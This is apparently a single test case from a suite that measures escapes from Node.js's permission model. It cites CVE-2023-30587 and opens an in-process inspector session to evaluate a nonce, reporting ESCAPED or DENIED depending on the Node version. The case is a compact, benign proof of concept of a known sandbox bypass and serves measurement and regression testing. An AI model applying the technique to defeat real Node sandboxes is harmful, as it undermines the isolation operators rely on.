// id: E19
// title: an inspector session in the same process
// label: CVE-2023-30587: closed for all sessions since 20.3.1
// reference: https://nodejs.org/en/blog/vulnerability/june-2023-security-releases
// versions: >=20.0.0 <20.3.1
// measured: escapes: 20.3.0; denied: 20.5.0 to 26.10.0
// grants: --allow-fs-read={grant} --allow-fs-write={grant}
// prove: effect
// stops: node
// setup: nonce
// note: nothing of a session is visible from outside: the only case where the script's word is the proof
'use strict';
const [grant, secret] = process.argv.slice(2);
const finish = (text) => { process.stdout.write(text.split('\n', 1)[0] + '\n'); process.exit(); };
const escaped = (evidence) => finish(`ESCAPED ${evidence}`);
const DENIAL = /^(ERR_ACCESS_DENIED|ERR_DLOPEN_DISABLED|ERR_DLOPEN_FAILED|EACCES|EPERM|ENOSYS|EXDEV|EROFS)$/;
const failed = (error) => finish(`${DENIAL.test(error.code) ? 'DENIED' : 'BROKEN'} ${error.code || error.name} ${error.message}`);
process.on('uncaughtException', failed);

const { nonce } = JSON.parse(process.env.ATTACK);
try {
  const inspector = require('inspector');
  const session = new inspector.Session();
  session.connect();
  session.post('Runtime.evaluate', { expression: JSON.stringify(nonce) }, (error, answer) => error ? failed(error) : escaped(answer.result.value));
} catch (error) {
  failed(error);
}
